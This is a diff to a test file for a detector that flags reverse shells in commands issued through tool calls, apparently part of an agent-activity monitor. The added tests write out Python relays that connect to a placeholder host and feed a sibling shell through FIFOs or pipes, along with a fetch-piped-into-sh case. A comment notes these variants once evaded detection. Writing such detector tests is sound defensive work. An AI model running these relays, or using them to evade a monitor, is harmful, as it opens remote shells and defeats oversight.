@@ -228,6 +228,50 @@ for (const mode of ['fork', 'orphan', 'wrap', 'devstdin', 'bashfd']) {
   });
 }
 
+// (left open in session 41, closed in session 42: a relay beside the shell, not its parent — two FIFOs between
+//  siblings, the relay opening them by name or holding them as its stdio, or a `cat` between it and the shell)
+const SIBLING_PY = `import os, socket, sys, time
+mode = sys.argv[1]
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+s.sendall(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n"); s.recv(4096)
+if mode == "stdio":
+    # (its own fds 0 and 1; sys.stdout would not close fd 1, and the shell would wait for more)
+    w, r = os.fdopen(1, "wb", buffering=0), os.fdopen(0, "rb", buffering=0)
+else:
+    w = open("in", "wb", buffering=0)
+    r = open("out", "rb", buffering=0)
+w.write(b"echo ran-$$\\n"); w.flush()
+time.sleep(1.5)
+w.close()
+open("relay.out", "w").write(mode + " " + r.read().decode().strip() + "\\n")`;
+const SIBLING_SH: Record<string, string> = {
+  byname: 'python3 relay.py byname & sh <in >out; wait',
+  stdio: 'python3 relay.py stdio >in <out & sh <in >out; wait',
+  cat: 'python3 relay.py cat & cat in | sh >out; wait',
+};
+for (const [mode, line] of Object.entries(SIBLING_SH)) {
+  test(`a shell relayed over pipes by a process beside it, not its parent: ${mode}`, async () => {
+    const { r, alerts } = await oneCall(`rm -f in out; mkfifo in out\ncat > relay.py <<'EOF'\n${SIBLING_PY}\nEOF\n${line}; cat relay.out; echo done`);
+    assert.match(r.stdout, new RegExp(`${mode} ran-\\d+\\ndone`));
+    const shells = alerts.filter((a) => a.payload.category === 'reverse_shell');
+    assert.ok(shells.some((a) => rulesOf(a).includes('network_fed_shell')), JSON.stringify(alerts.map((a) => [a.payload.category, rulesOf(a), a.payload.message])));
+    assert.ok(shells.every((a) => a.tool_call === 'call-1'));
+  });
+}
+
+test('a shell fed by a connected program that does not read its answers (`fetch | sh`) is not a relayed shell', async () => {
+  const { r, alerts } = await oneCall(`cat > fetch.py <<'EOF'
+import socket, time
+s = socket.create_connection(("198.51.100.10", 80), timeout=3)
+s.sendall(b"GET / HTTP/1.0\\r\\nHost: registry.test\\r\\n\\r\\n"); s.recv(4096)
+print("echo fetched", flush=True)
+time.sleep(1.5)
+EOF
+python3 fetch.py | sh > out.txt; cat out.txt; echo done`);
+  assert.match(r.stdout, /fetched\ndone/);
+  assert.deepEqual(alerts.filter((a) => rulesOf(a).includes('network_fed_shell')).map((a) => a.payload.message), []);
+});
+
 test('a shell started on a unix socket that a relay from an earlier call serves, the relay holding the connection out', async () => {
   const relay = `import socket, time
 t = socket.create_connection(("198.51.100.10", 80), timeout=5)
